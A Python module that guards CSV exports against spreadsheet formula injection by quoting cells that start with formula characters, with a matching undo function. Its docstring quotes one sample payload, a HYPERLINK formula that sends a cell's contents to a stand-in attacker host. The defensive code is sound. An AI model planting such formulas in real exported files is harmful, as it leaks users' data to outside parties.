"""CSV injection (OWASP "CSV Injection"): a cell that begins with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return is run as a formula by Excel and LibreOffice when a CSV file is opened
(``=HYPERLINK("http://evil.example/?leak="&A2,"Click")`` sends the row away on a click).

Every CSV export writes its text cells through :func:`neutralise`, which puts a single quote
``'`` in front of such a cell; every import reads its text cells through :func:`unneutralise`,
which takes exactly that quote off again, so that an export imported again changes nothing (a
phone number ``+86 10 1234 5678`` or a name ``-foo`` comes back as it was).

So that the pair is exact for any text, a text that already begins with quotes followed by one
of those characters (``'=x``) gets one more quote too (``''=x``), and :func:`unneutralise`
removes one leading quote only when quotes and then one of those characters follow it: for
every string ``s``, ``unneutralise(neutralise(s)) == s`` and ``neutralise(s)`` never begins
with one of those characters.
"""

import re

#: The characters that make a spreadsheet read a cell as a formula (OWASP).
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_QUOTED = re.compile(r"'(?='*[=+\-@\t\r])")


def neutralise(value):
    """``value`` with a ``'`` in front if it is text a spreadsheet would run as a formula;
    anything else (numbers, dates, None, other text) as it is."""
    if isinstance(value, str) and _NEEDS_QUOTE.match(value):
        return "'" + value
    return value


def unneutralise(value):
    """Undo :func:`neutralise`: ``value`` without the one ``'`` it put in front; anything else
    as it is."""
    if isinstance(value, str) and _QUOTED.match(value):
        return value[1:]
    return value
